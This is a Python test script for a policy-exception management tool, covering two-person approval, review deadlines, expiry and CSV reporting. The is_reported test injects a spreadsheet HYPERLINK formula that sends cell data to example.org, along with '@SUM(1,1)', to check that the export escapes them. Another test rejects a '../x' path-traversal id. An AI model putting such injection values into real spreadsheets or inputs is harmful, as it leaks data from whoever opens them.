#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Exceptions with the real programs: asked for by one officer, granted by
another elsewhere, reviewed, ended, overdue; each refusal by its name, and a
bundle that both verifiers find in order."""
import csv
import io
import json
import os

import desk
import trust_test
import whole_case

DAY = 86400
RULES = """populations:
  - {id: contractors, kind: enterprise, rule: {groups: [contractors]}}
apps:
  - {id: wiki, capabilities: {webauthn: true, acr: true, max_age: true}}
requires:
  - {id: R1, app: wiki, min_class: attested-key}
"""
USUAL = {"id": "E1", "waives": "R1", "population": "contractors", "app": "wiki", "owner": "ria",
         "reason": "laptops join the register later", "compensating": "the wiki alone can be reached",
         "days": "40", "review-days": "14"}


def found(place):
    """A practice station whose policy has a requirement."""
    place.make_keys()
    place.start()
    path = place.config()
    with open(path, encoding="utf-8") as file:
        config = json.load(file)
    with open(config["policy"], encoding="utf-8") as file:
        text = file.read().replace("match: {be: true,  uv: true}", "match: {be: true, uv: true}, sync_fabric_ref: S1")
    config["policy"] = os.path.join(place.top, "policy.yaml")
    with open(config["policy"], "w", encoding="utf-8") as file:
        file.write(text + RULES)
    with open(path, "w", encoding="utf-8") as file:
        json.dump(config, file)
    place.found(path)


def words(**fields):
    """The words of a request; None leaves an option out."""
    return ["exception", "request"] + [f"--{name.replace('_', '-')}={value}" for name, value in (
        USUAL | {name.replace("_", "-"): value for name, value in fields.items()}).items() if value is not None]


def listed(place, *more):
    rows = place.act("exception", "list", *more, "--as", "una", "--role", "auditor")["exceptions"]
    return {row["id"]: row for row in rows}


def refuse_by_name(place):
    for rule, fields in (
            ("exception-waives", {"waives": "R9"}), ("exception-waives", {"waives": "R1,P1"}),
            ("exception-scope", {"app": "mail"}), ("exception-scope", {"population": "nobody"}),
            ("exception-scope", {"journey": "dancing"}), ("exception-scope", {"transaction": "pay"}),
            ("exception-id", {"id": "P1"}), ("exception-life", {"days": "91"}),
            ("exception-dates", {"days": None, "until": "2024-01-01"}),
            ("exception-dates", {"days": None, "from": "2024-01-01", "until": "2024-02-01"}),
            ("exception-review-days", {"review_days": "31"}),
            ("exception-owner-unknown", {"owner": "nobody"}), ("exception-owner", {"owner": "sid"})):
        place.refused(rule, *words(**fields), "--as", "sid")
    place.refused("role", "role", "activate", "--as", "ada", "--role", "security")
    for option, fields in (
            ("--waives", {"waives": None}), ("--reason", {"reason": None}), ("--days", {"days": None}),
            ("--days", {"until": "2026-12-01"}), ("--reason", {"reason": " "}), ("--compensating", {"compensating": "a\nb"}),
            ("--id", {"id": "../x"}), ("--owner", {"owner": "a.one"}), ("--waives", {"waives": "R1,,R2"}),
            ("--app", {"app": "a b"}), ("--days", {"days": "-1"}), ("--review-days", {"review_days": "0"}),
            ("--from", {"from": "soon"}), ("--until", {"days": None, "until": "2026-02-30"})):
        error = place.act(*words(**fields), "--as", "sid", expect=2)
        assert option in error["text"], (option, error)
    assert listed(place) == {}


def two_grant(place):
    """The first signature outlives kill -9; the second is made elsewhere, from
    a file, and so does what both have granted."""
    proposal, signed = (os.path.join(place.top, name) for name in ("grant.json", "signed.json"))
    place.act(*words(), "--as", "sid")
    row = listed(place)["E1"]
    assert row["state"] == "waiting" and row["approved_by"] == ["sid"] and row["lapses"], row
    text = place.act("exception", "list", "--as", "sid", text=True)
    assert f"  from {row['from'][:10]} until {row['until'][:10]}, a review every 14 days\n" in text, text
    place.kill()
    assert listed(place)["E1"] == row
    place.refused("two-people", "exception", "approve", "E1", "--as", "sid", "--machine", place.machine)
    place.refused("change-off-kiosk", "exception", "approve", "E1", "--as", "sol")
    place.act("exception", "approve", "E2", "--as", "sol", expect=17)
    place.act("exception", "review", "E1", "--as", "sol", expect=17)
    place.act("exception", "approve", "E1", "--as", "sol", "--out", proposal)
    assert listed(place)["E1"]["state"] == "waiting"
    shown = place.run("sign", proposal, "--out", signed, "--machine", place.machine, "--yes", "--non-interactive",
                      text=True)
    assert "R1" not in shown  # words are for people, on standard error
    place.run("submit", signed)
    place.kill()
    row = listed(place)["E1"]
    assert row["state"] == "live" and row["approved_by"] == ["sid", "sol"] and row["uses"] == 0, row
    place.refused("exception-id", *words(), "--as", "sid")
    text = place.act("exception", "list", "--as", "sid", text=True)
    assert "E1  live until " in text and "waives R1; population contractors; app wiki" in text, text
    assert "used 0 times" in text and "owner ria: laptops" in text, text
    text = place.act("exception", "list", "E1", "--as", "sid", text=True)
    for head, value in (("id", "E1"), ("state", "live"), ("owner", "ria"), ("reason", USUAL["reason"]),
                        ("in its place", USUAL["compensating"]), ("scope", "population contractors; app wiki"),
                        ("waives", "R1"), ("approved by", "sid sol"), ("from", row["from"]), ("until", row["until"]),
                        ("next review", row["due"]), ("uses", "0"), ("days to a review", "14"),
                        ("granted", row["granted"]), ("digest", row["object"])):
        assert f"{head:20}{value}\n" in text, (head, text)


def is_reported(place):
    """For the meeting that reviews them: as text, and as a table that no
    spreadsheet takes for a program."""
    formula = '=HYPERLINK("http://example.org/?"&A1;"see here"), or not'
    place.act(*words(id="E4", reason=formula, compensating="@SUM(1,1)", population=None, app=None), "--as", "sid")
    rows = {row["id"]: row for row in place.act("report", "exceptions", "--as", "sid")["exceptions"]}
    assert rows["E1"]["owner"] == "ria" and rows["E1"]["persons"] == 0 and rows["E1"]["in_force"] == 1, rows
    command = ("report", "exceptions", "--as", "sid", *place.YES)
    text = place.run(*command, "--csv", text=True)
    table = {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    one, other = table["E1"], table["E4"]
    assert list(one) == ["id", "state", "owner", "reason", "in its place", "scope", "waives", "approved by", "from",
                         "until", "next review", "reviewed by", "uses", "persons", "most of one person",
                         "last use"], one
    assert (one["state"], one["scope"], one["approved by"], one["reviewed by"], one["uses"]) == (
        "live", "population contractors; app wiki", "sid sol", "", "0"), one
    assert one["until"] == rows["E1"]["until"] and one["next review"] == rows["E1"]["due"], one
    assert (other["state"], other["scope"], other["next review"]) == ("waiting", "everywhere", ""), other
    assert other["reason"] == "'" + formula and other["in its place"] == "'@SUM(1,1)", other
    text = place.run(*command, text=True)
    assert "  owner               ria\n" in text and "  scope               everywhere\n" in text, text


def one_ends(place):
    """One officer is enough, at once; the statement may travel."""
    proposal, signed = (os.path.join(place.top, name) for name in ("end.json", "ended.json"))
    place.act(*words(id="E2", population=None, owner="ben"), "--as", "sol", "--machine", place.machine)
    place.act("exception", "approve", "E2", "--as", "sid")
    assert listed(place)["E2"]["state"] == "live"
    place.act("exception", "end", "E2", "--as", "sol", "--out", proposal)
    place.kill()  # the statement says it all: it is still good
    place.act("sign", proposal, "--out", signed, "--machine", place.machine)
    place.run("submit", signed)
    row = listed(place)["E2"]
    assert row["state"] == "ended" and row["ended_by"] == "sol" and "due" not in row, row
    place.refused("exception-over", "exception", "end", "E2", "--as", "sid", expect=27)
    place.refused("exception-over", "exception", "review", "E2", "--as", "sid", expect=27)


def time_goes_on(place, later):
    """Reminded of, reviewed, then not reviewed: gone for good."""
    assert listed(place, "--due", "7") == {}
    later.add(8 * DAY)
    assert set(listed(place, "--due", "7")) == {"E1"}
    place.act("exception", "review", "E1", "--as", "sol")
    row = listed(place)["E1"]
    assert row["reviewed_by"] == "sol" and row["due"] > row["reviewed"], row
    assert listed(place, "--due", "7") == {}
    later.add(14 * DAY - 3600)
    assert listed(place)["E1"]["state"] == "live"
    later.add(3600)
    assert listed(place)["E1"]["state"] == "overdue"
    assert set(listed(place, "--due", "0")) == {"E1"}
    place.refused("exception-over", "exception", "review", "E1", "--as", "sid", expect=27)
    later.add(30 * DAY)
    assert listed(place)["E1"]["state"] == "expired"
    place.act(*words(id="E3", days="1"), "--as", "sid", "--machine", place.machine)
    later.add(DAY + 3600)
    place.act("exception", "approve", "E3", "--as", "sol", expect=17)  # lapsed


def main():
    has_later = "LATER_LIBRARY" in os.environ
    with desk.Desk() as place:
        later = trust_test.Later(place) if has_later else None
        found(place)
        refuse_by_name(place)
        two_grant(place)
        is_reported(place)
        one_ends(place)
        if later:
            time_goes_on(place, later)
        bundle = whole_case.check_bundle(place)
        lines = os.listdir(os.path.join(bundle, "data", "exceptions"))
        assert len(lines) == (4 if later else 3), lines
        place.stop()


if __name__ == "__main__":
    main()
